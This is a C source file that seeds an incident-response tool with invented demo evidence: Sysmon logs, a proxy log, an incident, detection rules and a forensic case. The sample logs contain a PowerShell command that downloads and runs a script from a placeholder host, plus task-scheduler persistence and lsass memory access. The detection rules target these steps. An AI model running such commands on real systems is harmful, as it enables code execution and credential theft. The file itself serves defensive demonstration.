// demo_cases.c - see demo_cases.h. Hosts, people and events are invented; names and addresses are those kept for examples
// (RFC 2606, RFC 5737).
#include "app/demo_cases.h"
#include "app/invented.h"

#include "kit/os/os.h"
#include "modules/accounts/accounts.h"
#include "modules/forensics/forensics.h"
#include "modules/hunts/hunts.h"
#include "modules/incidents/incidents.h"
#include "modules/systems/systems.h"

enum { ITEMS = 3, EVENT_BYTES_MAX = 64 * 1024, ZIP_BYTES_MAX = 64 * 1024, RULES = 3 };

// ---- evidence ----------------------------------------------------------------------------------------

static const struct sample_event {
    int minutes; // after the first
    int id;      // of Sysmon: 1 a process began, 10 one opened another
    str fields;  // of EventData, as JSON
} events[] = {
    { 0, 1,
      STR("\"Image\":\"C:\\\\Windows\\\\explorer.exe\",\"CommandLine\":\"explorer.exe\",\"User\":"
          "\"MAU\\\\can-bo-07\"") },
    { 4, 1,
      STR("\"Image\":\"C:\\\\Program Files\\\\Office\\\\winword.exe\",\"CommandLine\":"
          "\"winword.exe giay-moi-hop.docm\",\"User\":\"MAU\\\\can-bo-07\"") },
    { 5, 1,
      STR("\"Image\":\"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe\","
          "\"ParentImage\":\"C:\\\\Program Files\\\\Office\\\\winword.exe\",\"CommandLine\":"
          "\"powershell -w hidden IEX (New-Object Net.WebClient).DownloadString("
          "'http://cap-nhat.example/a.ps1')\",\"User\":\"MAU\\\\can-bo-07\"") },
    { 9, 1,
      STR("\"Image\":\"C:\\\\Windows\\\\System32\\\\schtasks.exe\",\"CommandLine\":\"schtasks "
          "/create /tn CapNhat /tr C:\\\\Users\\\\Public\\\\Temp\\\\svc.exe /sc minute /mo 30\","
          "\"User\":\"MAU\\\\can-bo-07\"") },
    { 31, 1,
      STR("\"Image\":\"C:\\\\Windows\\\\System32\\\\schtasks.exe\",\"CommandLine\":\"schtasks "
          "/create /tn SaoLuu /tr D:\\\\QuanTri\\\\Temp\\\\sao-luu.cmd /sc daily\",\"User\":"
          "\"MAU\\\\quan-tri\"") },
    { 44, 10,
      STR("\"SourceImage\":\"C:\\\\Users\\\\Public\\\\Temp\\\\svc.exe\",\"TargetImage\":"
          "\"C:\\\\Windows\\\\System32\\\\lsass.exe\",\"GrantedAccess\":\"0x1410\"") },
    { 52, 1,
      STR("\"Image\":\"C:\\\\Windows\\\\System32\\\\ipconfig.exe\",\"CommandLine\":\"ipconfig "
          "/all\",\"User\":\"MAU\\\\can-bo-07\"") },
};

static const str proxy_log = STR("10.20.7.41 GET http://cap-nhat.example/a.ps1 200 4811\n"
                                 "10.20.7.41 CONNECT 203.0.113.77:443 200 918\n"
                                 "10.20.7.15 GET http://van-ban.example/lich-hop.html 200 22034\n"
                                 "10.20.7.41 CONNECT 203.0.113.77:443 200 1207744\n");
static const str note_text = STR(
    "Máy trạm số 07: rút dây mạng lúc 10:05, giữ nguyên nguồn điện, chụp "
    "ảnh màn hình, sao chép nhật ký sang ổ đĩa đã niêm phong.\n");

// As lines that Windows' events have in JSON.
static status event_lines(call *c, int64_t first_ms, str *out)
{
    static const int64_t minute_ms = 60 * 1000;
    buf                  b         = buf_in(c->a, 4096, EVENT_BYTES_MAX);
    for (size_t i = 0; i < COUNT(events); i++) {
        str at = time_rfc3339(c->a, first_ms + events[i].minutes * minute_ms);
        if (!at.ptr) return ST_MEMORY;
        buf_printf(&b,
                   "{\"Event\":{\"System\":{\"Provider\":{\"#attributes\":{\"Name\":"
                   "\"Microsoft-Windows-Sysmon\"}},\"EventID\":%d,\"TimeCreated\":{"
                   "\"#attributes\":{\"SystemTime\":\"" STR_FMT "\"}},\"EventRecordID\":%zu,"
                   "\"Channel\":\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":"
                   "\"MAY-TRAM-07\"},\"EventData\":{" STR_FMT "}}}\n",
                   events[i].id, STR_ARG(at), 4101 + i, STR_ARG(events[i].fields));
    }
    *out = buf_str(&b);
    return buf_status(&b);
}

static status take(call *c, int64_t case_id, str path, str bytes, item_taken *out, problem *why)
{
    int              fd = -1;
    const item_draft d  = { .case_id    = case_id,
                            .path       = path,
                            .device     = S("Máy trạm số 07, Văn phòng Bộ Mẫu 01"),
                            .place      = S("Phòng 305, nhà A (mẫu)"),
                            .taken_from = S("Trần Thị Mẫu, Văn phòng"),
                            .ground = S("Biên bản thu giữ dữ liệu số 07/BB-ANM (mẫu)"),
                            .seal   = S("NP-0107"),
                            .note   = S("Số liệu minh họa"),
                            .open   = true };
    TRY(os_temp_in_memory(&fd));
    status st = os_write_all(fd, bytes);
    if (st == ST_OK) st = os_rewind(fd);
    if (st == ST_OK) st = items_take(c, &d, fd, out, why);
    os_close(fd);
    return st;
}

// ---- rules -------------------------------------------------------------------------------------------

static const struct sample_rule {
    str name, text;
} rules[RULES] = {
    { STR("powershell-tai-ve.yml"),
      STR("title: PowerShell tải và chạy mã từ mạng (mẫu)\n"
          "id: 7d1c0a52-0001-4000-8000-000000000001\nlevel: high\nmodified: 2026-10-01\n"
          "tags: [attack.execution, attack.t1059.001, attack.command-and-control, attack.t1105]\n"
          "logsource: {product: windows, category: process_creation}\n"
          "detection:\n  goi:\n    Image|endswith: '\\powershell.exe'\n"
          "    CommandLine|contains: DownloadString\n  condition: goi\n") },
    { STR("tac-vu-lap-lich.yml"),
      STR("title: Tác vụ lập lịch chạy tệp trong thư mục tạm (mẫu)\n"
          "id: 7d1c0a52-0001-4000-8000-000000000002\nlevel: medium\nmodified: 2026-10-01\n"
          "tags: [attack.persistence, attack.t1053.005]\n"
          "logsource: {product: windows, category: process_creation}\n"
          "detection:\n  tao:\n    Image|endswith: '\\schtasks.exe'\n"
          "    CommandLine|contains|all: ['/create', '\\Temp\\']\n  condition: tao\n") },
    { STR("doc-bo-nho-lsass.yml"),
      STR("title: Đọc bộ nhớ tiến trình đăng nhập (mẫu)\n"
          "id: 7d1c0a52-0001-4000-8000-000000000003\nlevel: critical\nmodified: 2026-10-01\n"
          "tags: [attack.credential-access, attack.t1003.001]\n"
          "logsource: {product: windows, category: process_access}\n"
          "detection:\n  mo:\n    TargetImage|endswith: '\\lsass.exe'\n"
          "    GrantedAccess: '0x1410'\n  condition: mo\n") },
};

static void put_number(buf *b, uint32_t n, int bytes)
{
    for (int i = 0; i < bytes; i++) buf_char(b, (char)(n >> (8 * i)));
}

static uint32_t crc_of(str s)
{
    uint32_t crc = 0xffffffffU;
    for (ptrdiff_t i = 0; i < s.len; i++) {
        crc ^= (unsigned char)s.ptr[i];
        for (int k = 0; k < 8; k++) crc = crc & 1 ? crc >> 1 ^ 0xedb88320U : crc >> 1;
    }
    return ~crc;
}

// What a member's two heads have in common: version needed to length of the name; no date, nothing packed.
static void put_member(buf *b, const struct sample_rule *r)
{
    put_number(b, 20, 2);
    put_number(b, 0x0800, 2); // names are UTF-8
    put_number(b, 0, 2);
    put_number(b, 0x00210000, 4); // 1980-01-01
    put_number(b, crc_of(r->text), 4);
    put_number(b, (uint32_t)r->text.len, 4);
    put_number(b, (uint32_t)r->text.len, 4);
    put_number(b, (uint32_t)r->name.len, 2);
    put_number(b, 0, 2);
}

static status rules_zip(call *c, str *out)
{
    buf      b = buf_in(c->a, 4096, ZIP_BYTES_MAX);
    uint32_t at[RULES];
    for (size_t i = 0; i < RULES; i++) {
        at[i] = (uint32_t)b.len;
        put_number(&b, 0x04034b50, 4);
        put_member(&b, &rules[i]);
        buf_put(&b, rules[i].name);
        buf_put(&b, rules[i].text);
    }
    uint32_t begin = (uint32_t)b.len;
    for (size_t i = 0; i < RULES; i++) {
        put_number(&b, 0x02014b50, 4);
        put_number(&b, 20, 2);
        put_member(&b, &rules[i]);
        put_number(&b, 0, 2); // comment
        put_number(&b, 0, 4); // disk, inner attributes
        put_number(&b, 0, 4);
        put_number(&b, at[i], 4);
        buf_put(&b, rules[i].name);
    }
    uint32_t size = (uint32_t)b.len - begin;
    put_number(&b, 0x06054b50, 4);
    put_number(&b, 0, 4);
    put_number(&b, RULES, 2);
    put_number(&b, RULES, 2);
    put_number(&b, size, 4);
    put_number(&b, begin, 4);
    put_number(&b, 0, 2);
    *out = buf_str(&b);
    return buf_status(&b);
}

static status add_rules(call *c, int64_t *id, problem *why)
{
    str                  zip;
    int                  fd = -1;
    const rule_set_draft d  = { S("Tập luật mẫu"), S("2026.10"), S("tap-luat-mau.zip") };
    TRY(rules_zip(c, &zip));
    TRY(os_temp_in_memory(&fd));
    status st = os_write_all(fd, zip);
    if (st == ST_OK) st = os_rewind(fd);
    if (st == ST_OK) st = rule_set_add(c, &d, fd, id, why);
    os_close(fd);
    return st;
}

// ---- the incident ------------------------------------------------------------------------------------

static status some_system(call *c, int64_t body_id, str *code)
{
    const system_filter f = { .owner_id = body_id, .state = SYSTEM_RUNNING };
    system_page         p;
    TRY(systems_list(c, &f, S(""), 1, &p, NULL));
    if (!p.count) return ST_MISSING;
    *code = p.items[0].code;
    return ST_OK;
}

static status add_incident(call *c, str system, int64_t detected_ms, int64_t *id, problem *why)
{
    incident_problems *bad   = NEW(c->a, incident_problems, 1);
    size_t             added = 0;
    const incident_value all[] = { { S("title"), S("Máy trạm tải mã độc từ thư giả mạo (mẫu)") },
                                   { S("detected"), time_rfc3339(c->a, detected_ms) },
                                   { S("description"),
                                     S("Tệp đính kèm thư mời họp giả mạo chạy PowerShell.") },
                                   { S("present_state"), S("unhandled") },
                                   { S("contact_name"), S("Lê Thị Mẫu") },
                                   { S("contact_phone"), S("0123 456 789") } };
    const incident_draft d = { .system = system, .values = all, .count = COUNT(all), .open = true };
    const incident_marking k = { .tlp   = INDICATOR_AMBER,
                                 .lines = S(
                                     "hxxp://cap-nhat[.]example/a.ps1\n203[.]0[.]113[.]77\n"),
                                 .note = S("Theo nhật ký máy chủ ủy quyền (mẫu)") };
    if (!bad || !all[1].value.ptr) return ST_MEMORY;
    status st = incidents_add(c, &d, id, bad);
    if (st == ST_INVALID && bad->count) *why = bad->items[0];
    TRY(st);
    incident_marking marking = k;
    marking.id               = *id;
    return incidents_mark(c, &marking, &added, why);
}

// ---- the case ----------------------------------------------------------------------------------------

static status judge(call *c, const finding *f, problem *why)
{
    finding_judging j = { .id = f->id, .version = f->version_no };
    if (f->level == LEVEL_CRITICAL) {
        j.triage  = TRIAGE_THREAT;
        j.comment = S(
            "Tiến trình lạ đọc bộ nhớ lsass; đổi mật khẩu mọi tài khoản đã dùng trên máy");
    } else if (f->level == LEVEL_MEDIUM && f->record == 5) {
        j.triage = TRIAGE_BENIGN;
        j.comment = S("Tác vụ sao lưu của quản trị, đã đối chiếu với kế hoạch vận hành");
    } else {
        return ST_OK; // left for the visitor
    }
    return finding_judge(c, &j, why);
}

// Rules, then the case's own indicators. Where no sealed program can be started (tests of other things), a job of the
// server is asked for instead, and nothing is judged yet.
static status look(call *c, const forensic_case *k, int64_t rules_id, problem *why)
{
    const finding_filter f = { 0 };
    finding_page         found;
    problem              none     = { 0 };
    const case_looking   by_rules = { k->id, rules_id, false }, by_list = { k->id, 0, false };
    status               st = case_detect_now(c, &by_rules, &none);
    if (st == ST_OK) st = case_detect_now(c, &by_list, &none);
    if (st != ST_OK) return case_detect_ask(c, &by_rules, why);
    TRY(findings_list(c, k, &f, S(""), 0, &found, why));
    for (size_t i = 0; i < found.count; i++) TRY(judge(c, &found.items[i], why));
    return ST_OK;
}

static status hand_over(call *c, const forensic_case *k, int64_t item, problem *why)
{
    handover             made;
    const handover_draft d = { .case_id       = k->id,
                               .items         = &item,
                               .item_count    = 1,
                               .giver         = S("Lê Thị Mẫu"),
                               .giver_post    = S("Chuyên viên phân tích"),
                               .receiver      = S("Phạm Văn Mẫu"),
                               .receiver_post = S("Giám định viên"),
                               .receiver_body = S("Viện Kỹ thuật Mẫu"),
                               .place         = S("Trụ sở Bộ Mẫu 01"),
                               .reason = S("Giám định nội dung liên lạc ra ngoài") };
    return case_handover_make(c, &d, &made, why);
}

static status link_hunt(call *c, const forensic_case *k, problem *why)
{
    const hunt_filter f = { .q = S("đăng nhập"), .system = S(""), .own = true };
    hunt_page         list;
    TRY(hunts_list(c, &f, S(""), 1, &list, why));
    return list.count ? hunts_case_link(c, list.items[0].h.id, k->code, why) : ST_OK;
}

static status take_all(call *c, const forensic_case *k, int64_t first_ms, item_taken items[ITEMS],
                       problem *why)
{
    str lines;
    TRY(event_lines(c, first_ms, &lines));
    TRY(take(c, k->id, S("MAY-TRAM-07/nhat-ky-sysmon.jsonl"), lines, &items[0], why));
    TRY(take(c, k->id, S("MAY-CHU-UY-QUYEN/proxy.log"), proxy_log, &items[1], why));
    return take(c, k->id, S("MAY-TRAM-07/ghi-chep-hien-truong.txt"), note_text, &items[2], why);
}

static status seed_as_ministry(call *c, int64_t body_id, problem *why)
{
    static const int64_t day_ms   = 24LL * 3600 * 1000;
    int64_t              first_ms = c->now_ms - 3 * day_ms, incident_id, case_id, rules_id;
    indicators_added    *n        = NEW(c->a, indicators_added, 1);
    item_taken           items[ITEMS];
    forensic_case        k;
    str                  system;
    status               st = some_system(c, body_id, &system);
    if (st == ST_MISSING || !n) return n ? ST_OK : ST_MEMORY;
    TRY(st);
    TRY(add_incident(c, system, first_ms + day_ms / 8, &incident_id, why));
    const case_draft d = { .title    = S("Máy trạm số 07 tải mã độc (mẫu)"),
                           .ground   = S("Kế hoạch xác minh số 12/KH-ANM (mẫu)"),
                           .incident = arena_printf(c->a, "%lld", (long long)incident_id),
                           .systems  = system,
                           .open     = true };
    TRY(cases_add(c, &d, &case_id, why));
    TRY(case_load(c, case_id, &k));
    TRY(take_all(c, &k, first_ms, items, why));
    TRY(case_indicators_of_incident(c, k.id, n, why));
    const indicator_draft own = { .case_id = k.id,
                                  .lines = S("svc.exe; tệp thực thi thả vào thư mục tạm\n"),
                                  .source = S("Phân tích ban đầu (mẫu)") };
    TRY(case_indicators_add(c, &own, n, why));
    TRY(add_rules(c, &rules_id, why));
    TRY(look(c, &k, rules_id, why));
    TRY(hand_over(c, &k, items[1].id, why));
    const case_letting centre = { k.id, CASE_READER, S("MAU-NUOC"),
                                  S("Công văn đề nghị phối hợp số 31/ANM (mẫu)") };
    TRY(case_let_in(c, &centre, why));
    return link_hunt(c, &k, why);
}

status demo_cases_seed(call *c, problem *why)
{
    const actor machine = c->who;
    TRY(invented_act_for(c, S("MAU-BO-01"), ROLE_BIT(ROLE_ANALYST)));
    c->who.rights |= RIGHT_CASES_LEAD;
    status st = seed_as_ministry(c, c->who.body_id, why);
    c->who    = machine;
    return st;
}
